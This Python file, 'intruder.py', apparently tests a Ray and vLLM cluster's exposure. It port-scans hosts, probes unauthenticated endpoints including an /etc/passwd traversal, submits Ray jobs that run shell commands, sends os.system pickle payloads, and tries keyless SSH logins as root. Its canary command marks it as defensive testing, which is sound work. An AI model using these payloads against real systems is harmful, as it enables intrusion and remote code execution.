"""What a stranger on the network tries: finds every open TCP port of some addresses, asks each for data, and for code to run.

A program for a host without token and key: `python intruder.py` reads one JSON object from standard input (`addresses`, `model`,
`canary`) and prints one JSON list, a finding per open port. It knows nothing of the cluster but what a port says. Whatever runs
code would make the file `canary`; that it is on no host is the caller's to check. Each port is asked a fixed number of questions.
"""

from __future__ import annotations

import errno
import http.client
import json
import os
import pickle
import select
import socket
import ssl
import struct
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass
from typing import Any

PATIENCE_S = 1.5
AT_ONCE = 512
# Open by decision, see docs/security.md: whether something lives, nothing more.
HEALTH = ("/healthz", "/readyz", "/-/healthz", "/api/healthz", "/api/local_raylet_healthz")
PATHS = (
    "/", "/metrics", "/stats", "/version", "/api/version", "/api/jobs/", "/api/job_agent/jobs/", "/api/serve/applications/",
    "/api/cluster_status", "/api/v0/nodes", "/api/v0/actors", "/api/v0/logs?node_ip=127.0.0.1",
    "/api/v0/logs/file?filename=raylet.out",
    "/nodes?view=summary", "/api/actors", "/api/grafana_health", "/api/authenticate", "/worker/traceback?pid=1",
    "/logs", "/logs/", "/log_index", "/static/../../etc/passwd", "/usage_stats_enabled", "/cluster_metadata", "/events",
    "/v1/models", "/v1/chat/completions", "/admin/keys", "/admin/usage", "/engines", "/engines/{model}/v1/models",
    "/engines/{model}/metrics", "/engines/{model}/health", "/engines/{model}/docs", "/-/routes", "/-/tidepool/usage/x", "/docs",
    "/openapi.json", "/redoc", "/server_info", "/load", "/tokenize", "/debug/pprof/", "/v2/keys", "/snapshot", "/;csv",
)  # fmt: skip
CODE = {"entrypoint": "touch {canary}", "runtime_env": {"env_vars": {"A": "b"}}}
CHAT = {"model": "{model}", "messages": [{"role": "user", "content": "Hello"}], "max_tokens": 1}
POSTS: tuple[tuple[str, str, dict[str, Any]], ...] = (
    ("POST", "/api/jobs/", CODE),
    ("POST", "/api/job_agent/jobs/", CODE),
    ("PUT", "/api/serve/applications/", {"applications": [{"name": "x", "route_prefix": "/x", "import_path": "os:getcwd"}]}),
    ("POST", "/get_or_create_runtime_env", {}),
    ("POST", "/delete_runtime_env_if_possible", {}),
    ("POST", "/admin/keys", {"name": "x", "admin": True}),
    ("POST", "/v1/chat/completions", CHAT),
    ("POST", "/engines/{model}/v1/chat/completions", CHAT),
    ("POST", "/engines/{model}/v1/load_lora_adapter", {"lora_name": "x", "lora_path": "/tmp"}),
)
HEALTH_METHODS = ("Healthz", "HealthCheck")
GUESSES: tuple[dict[str, str], ...] = (
    {},
    {"Authorization": "Bearer guess", "X-Tidepool-Secret": "guess", "X-Api-Key": "guess"},
    {"X-Ray-Authorization": "Bearer guess", "Cookie": "ray-authentication-token=guess"},
)
TELLING = (b"# TYPE", b"# HELP", b"vllm:", b"node_id", b"nodeId", b"job_id", b"root:x:", b"PRIVATE KEY")
METHODS = (
    *(f"ray.rpc.NodeInfoGcsService/{name}" for name in ("GetAllNodeInfo", "GetClusterId", "CheckAlive")),
    *(
        f"ray.rpc.InternalKVGcsService/{name}"
        for name in ("InternalKVGet", "InternalKVKeys", "InternalKVPut", "GetInternalConfig")
    ),
    *(f"ray.rpc.JobInfoGcsService/{name}" for name in ("GetAllJobInfo", "AddJob")),
    *(f"ray.rpc.{name}" for name in ("ActorInfoGcsService/GetAllActorInfo", "WorkerInfoGcsService/GetAllWorkerInfo")),
    *(f"ray.rpc.{name}" for name in ("TaskInfoGcsService/GetTaskEvents", "NodeResourceInfoGcsService/GetAllResourceUsage")),
    "ray.rpc.autoscaler.AutoscalerStateService/GetClusterStatus",
    *(
        f"ray.rpc.NodeManagerService/{name}"
        for name in ("GetNodeStats", "GetSystemConfig", "RequestWorkerLease", "ShutdownRaylet")
    ),
    *(f"ray.rpc.ObjectManagerService/{name}" for name in ("Pull", "Push")),
    *(f"ray.rpc.CoreWorkerService/{name}" for name in ("GetCoreWorkerStats", "PushTask", "Exit")),
    *(f"ray.rpc.ReporterService/{name}" for name in ("GetTraceback", "CpuProfiling", "ReportOCMetrics", "HealthCheck")),
    *(f"ray.rpc.LogService/{name}" for name in ("ListLogs", "StreamLog")),
    "ray.rpc.events.EventAggregatorService/AddEvents",
    "opentelemetry.proto.collector.metrics.v1.MetricsService/Export",
    *(f"ray.rpc.RayletDriver/{name}" for name in ("Init", "ClusterInfo", "KVList", "PutObject", "Schedule")),
    "ray.rpc.RayletDataStreamer/Datapath",
    "ray.rpc.RayletLogStreamer/Logstream",
    *(f"ray.serve.ASGIService/{name}" for name in ("HandleRequest", "HandleRequestStreaming")),
    *(f"ray.serve.RayServeAPIService/{name}" for name in ("ListApplications", "Healthz")),
)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
STORE_MAGIC = struct.pack("<BI", 0, 0x3C85F7CE) + b"\x07"  # torch's TCPStore: hello, and how many keys are there


@dataclass(frozen=True)
class Found:
    """One open port: what it speaks, what it said to everything that was tried, and what it gave away."""

    address: str
    port: int
    speaks: str
    answer: str
    breach: str = ""


class Bomb:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def main() -> None:
    asked = json.load(sys.stdin)
    spots = [(address, port) for address in asked["addresses"] for port in asked.get("ports") or scan(address)]
    with ThreadPoolExecutor(12) as pool:
        found = list(pool.map(lambda spot: attack(*spot, asked["model"], asked["canary"]), spots))
    json.dump([asdict(item) for item in found], sys.stdout)


def scan(address: str) -> list[int]:
    """Every TCP port that takes a connection."""
    taken: list[int] = []
    left = iter(range(1, 65536))
    pending: dict[int, tuple[socket.socket, int]] = {}
    poll = select.epoll()

    def begin() -> bool:
        port = next(left, None)
        if port is None:
            return False
        probe = socket.socket()
        probe.setblocking(False)
        code = probe.connect_ex((address, port))
        if code == errno.EINPROGRESS:
            pending[probe.fileno()] = (probe, port)
            poll.register(probe, select.EPOLLOUT)
        else:
            taken.extend([port] if code == 0 else [])
            probe.close()
        return True

    while True:
        while len(pending) < AT_ONCE and begin():
            pass
        if not pending:
            return sorted(taken)
        ready = poll.poll(PATIENCE_S)
        # Nobody answers at all: a firewall drops what is left, and an open port would have answered.
        for descriptor in [number for number, _ in ready] or list(pending):
            probe, port = pending.pop(descriptor)
            poll.unregister(probe)
            if ready and probe.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                taken.append(port)
            probe.close()


def attack(address: str, port: int, model: str, canary: str) -> Found:
    """Find out what a port speaks, and try what is known against it."""
    try:
        said = exchange(address, port, b"")
        if said.startswith(b"SSH-"):
            return ssh(address, port, canary)
        if said[:1] == b"\xff" and said[9:10] == b"\x7f":
            return Found(address, port, "ZeroMQ", "greets", "a ZeroMQ socket that takes messages from everyone")
        said = exchange(address, port, b"GET / HTTP/1.1\r\nHost: stranger\r\nConnection: close\r\n\r\n")
        if said.startswith(b"HTTP/1"):
            return web(address, port, model, canary, None)
        if b"\x04" in (said[3:4], exchange(address, port, PREFACE)[3:4]):
            return calls(address, port, canary)
        if context := speaks_tls(address, port):
            return web(address, port, model, canary, context)
        return bare(address, port, canary)
    except OSError as error:
        return Found(address, port, "nothing", f"closed meanwhile ({error.strerror or type(error).__name__})")


def exchange(address: str, port: int, sent: bytes) -> bytes:
    """What comes back, for as long as patience lasts; without `sent` only what is said first."""
    said = b""
    with socket.create_connection((address, port), timeout=PATIENCE_S) as line:
        if not sent:
            line.settimeout(0.5)
        try:
            line.sendall(sent)
            while len(said) < 4096 and (piece := line.recv(4096)):
                said += piece
        except (TimeoutError, ConnectionError):
            pass
    return said


def web(address: str, port: int, model: str, canary: str, context: ssl.SSLContext | None) -> Found:
    """Every path and every post, without a key and with a wrong one."""
    codes: Counter[int] = Counter()
    breaches = []
    for method, path, body in requests(model, canary):
        for headers in GUESSES:
            try:
                status, text = one(address, port, method, path, body, headers, context)
            except (OSError, http.client.HTTPException):
                codes[0] += 1
                continue
            codes[status] += 1
            healthy = method == "GET" and path in HEALTH and not any(word in text for word in TELLING)
            if (status < 300 and not healthy) or any(word in text for word in TELLING):
                breaches.append(f"{method} {path} {status}: {text[:80]!r}")
    shown = ", ".join(f"{'no answer' if code == 0 else code} x {count}" for code, count in sorted(codes.items()))
    return Found(address, port, "HTTP" if context is None else "HTTPS", shown, "; ".join(sorted(set(breaches))[:3]))


def requests(model: str, canary: str) -> Iterator[tuple[str, str, bytes | None]]:
    def filled(text: str) -> str:
        return text.replace("{model}", model).replace("{canary}", canary)

    for path in (*PATHS, *HEALTH):
        yield "GET", filled(path), None
    for method, path, body in POSTS:
        yield method, filled(path), filled(json.dumps(body)).encode()


def one(
    address: str, port: int, method: str, path: str, body: bytes | None, headers: dict[str, str], context: ssl.SSLContext | None
) -> tuple[int, bytes]:
    if context is None:
        connection = http.client.HTTPConnection(address, port, timeout=2 * PATIENCE_S)
    else:
        connection = http.client.HTTPSConnection(address, port, timeout=2 * PATIENCE_S, context=context)
    try:
        connection.request(method, path, body, {"Content-Type": "application/json", "Connection": "close", **headers})
        answer = connection.getresponse()
        return answer.status, answer.read(20_000)
    finally:
        connection.close()


def speaks_tls(address: str, port: int) -> ssl.SSLContext | None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # whom it is is not what a stranger cares for
    try:
        with socket.create_connection((address, port), timeout=PATIENCE_S) as line, context.wrap_socket(line):
            return context
    except OSError:
        return None


def calls(address: str, port: int, canary: str) -> Found:
    """Ray's gRPC methods, without a token and with a wrong one; requests are empty, which all their messages may be."""
    import grpc

    codes: Counter[str] = Counter()
    breaches = []
    with grpc.insecure_channel(f"{address}:{port}", options=[("grpc.enable_http_proxy", 0)]) as channel:
        for method in METHODS:
            for metadata in ([], [("authorization", "Bearer guess"), ("client_id", "stranger")]):
                try:
                    said = next(iter(channel.unary_stream("/" + method)(b"", metadata=metadata, timeout=2 * PATIENCE_S)), b"")
                    codes["OK"] += 1
                    if not method.endswith(HEALTH_METHODS):
                        breaches.append(f"{method} answers {bytes(said)[:60]!r}")
                except grpc.RpcError as error:
                    codes[error.code().name] += 1
    raw(address, port, canary)
    shown = ", ".join(f"{code} x {count}" for code, count in sorted(codes.items()))
    return Found(address, port, "gRPC", shown, "; ".join(sorted(set(breaches))[:3]))


def bare(address: str, port: int, canary: str) -> Found:
    """A port that speaks none of these: torch's store, and whatever unpickles what it is sent."""
    count = exchange(address, port, STORE_MAGIC)
    if len(count) == 8:
        return Found(
            address, port, "TCPStore", "answers", f"a store of torch that gives {struct.unpack('<q', count)[0]} keys to all"
        )
    said = raw(address, port, canary)
    told = [word.decode() for word in TELLING if word in said]
    return Found(address, port, "other", f"{len(said)} bytes" if said else "says nothing", f"says {said[:60]!r}" if told else "")


def raw(address: str, port: int, canary: str) -> bytes:
    """Junk, and pickles that would run a command, bare and with the usual lengths before them; all that came back."""
    bomb = pickle.dumps(Bomb(f"touch {canary}"))
    lengths = (
        b"",
        struct.pack("<I", len(bomb)),
        struct.pack(">I", len(bomb)),
        struct.pack("<Q", len(bomb)),
        struct.pack(">Q", len(bomb)),
    )
    said = b""
    for payload in (b"\n", bytes(range(256)), *(length + bomb for length in lengths)):
        try:
            said += exchange(address, port, payload)
        except OSError:
            continue
    return said


def ssh(address: str, port: int, canary: str) -> Found:
    """In without a key, as root and as two users that machines often have."""
    outcomes = []
    for user in ("root", "ubuntu", "ray"):
        options = [
            "BatchMode=yes",
            "StrictHostKeyChecking=no",
            "UserKnownHostsFile=/dev/null",
            "IdentityAgent=none",
            "ConnectTimeout=3",
        ]
        words = [part for option in options for part in ("-o", option)]
        command = ["ssh", "-F", "none", "-p", str(port), *words, f"{user}@{address}", f"touch {canary}"]
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20, check=False)
        outcomes.append((user, done.returncode, done.stderr.strip().splitlines()[-1:]))
    breach = "; ".join(f"{user} is let in" for user, code, _ in outcomes if code != 255)
    denied = sum("Permission denied" in " ".join(lines) for _, _, lines in outcomes)
    return Found(address, port, "SSH", f"permission denied x {denied} of {len(outcomes)}", breach)


if __name__ == "__main__":
    main()
